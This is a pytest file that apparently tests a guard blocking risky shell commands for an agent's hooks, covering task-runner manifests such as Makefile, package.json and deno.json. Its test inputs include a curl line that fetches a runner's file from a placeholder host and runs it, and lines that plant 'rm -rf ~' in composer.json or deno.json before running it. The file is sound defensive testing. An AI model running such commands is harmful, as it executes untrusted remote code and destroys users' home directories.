"""Files that say what a runner runs: they are behind a hook, and not run when just fetched."""

import json

import pytest

from steersman.records.hooks import Hook
from steersman.records.runners import manifests
from steersman.threads.startups import files_of
from tests.governance.guard.kit import said, verdict

PAIRS = [(program, file) for program, files in manifests().items() for file in files]
GIVEN = {  # what of a program runs something
    "bundle": "bundle exec rake", "composer": "composer run check", "deno": "deno task check",
    "docker": "docker compose up --build", "docker-compose": "docker-compose up --build",
    "go": "go build ./...", "mise": "mise run check", "node": "node --run check",
    "podman": "podman compose up --build", "podman-compose": "podman-compose up --build",
    "ruby": "ruby -S rake",
}  # fmt: skip


@pytest.mark.parametrize(("program", "file"), PAIRS)
def test_a_runners_file_that_the_same_line_fetched_is_not_run(program, file):
    line = f"curl -so {file} https://x.example/a && {GIVEN.get(program, f'{program} check')}"
    assert verdict(line) == "block", said(line)


@pytest.mark.parametrize(("program", "file"), PAIRS)
def test_a_runners_file_decides_what_a_hook_says(tmp_path, program, file):
    (tmp_path / file).touch()
    interprets = program in ("node", "tsx", "ruby")  # what they run is on their command line
    found = files_of([Hook("Stop", f"{program} check", "here")], str(tmp_path))
    assert found == ([] if interprets else [file])


SAYS = {
    "Makefile": ("make check", "check:\n\tsh scripts/check.sh\n"),
    "package.json": ("npm run check", json.dumps({"scripts": {"check": "sh scripts/check.sh"}})),
    "composer.json": (
        "composer run check",
        json.dumps({"scripts": {"check": ["@quick", "A::b"], "quick": "@php scripts/check.sh"}}),
    ),
    "deno.json": ("deno task check", json.dumps({"tasks": {"check": "sh scripts/check.sh"}})),
    "deno.jsonc": (
        "deno task check",
        '{\n// "\n"tasks": { /* all */\n"check": {"command": "sh scripts/check.sh",},\n}, }',
    ),
    ".justfile": ("just check", "check:\n  sh scripts/check.sh\n"),
    "Taskfile.yaml": ("task check", "tasks:\n  check:\n    cmds:\n      - sh scripts/check.sh\n"),
    "mise.toml": ("mise run check", '[tasks.check]\nrun = "sh scripts/check.sh"\n'),
    "noxfile.py": ("nox", 'session.run("sh", "scripts/check.sh")\n'),
    "lefthook.toml": ("lefthook run x", '[x.commands.y]\nrun = "sh scripts/check.sh"\n'),
    "rakefile": ("rake check", 'task(:check) { sh "scripts/check.sh" }\n'),
}


@pytest.mark.parametrize("file", SAYS)
def test_the_script_that_a_runners_file_names_counts_as_well(tmp_path, file):
    command, text = SAYS[file]
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "check.sh").touch()
    (tmp_path / "scripts" / "other.sh").touch()
    (tmp_path / file).write_text(text)
    found = files_of([Hook("Stop", command, "here")], str(tmp_path))
    assert found == [file, "scripts/check.sh"]


@pytest.mark.parametrize(
    "line",
    [
        """echo '{"scripts": {"x": "rm -rf ~"}}' > composer.json && composer run x""",
        """echo '{"tasks": {"x": "rm -rf ~"}}' > deno.json && deno task x""",
    ],
)
def test_what_a_line_tells_a_runner_is_read(line):
    assert verdict(line) == "block", said(line)
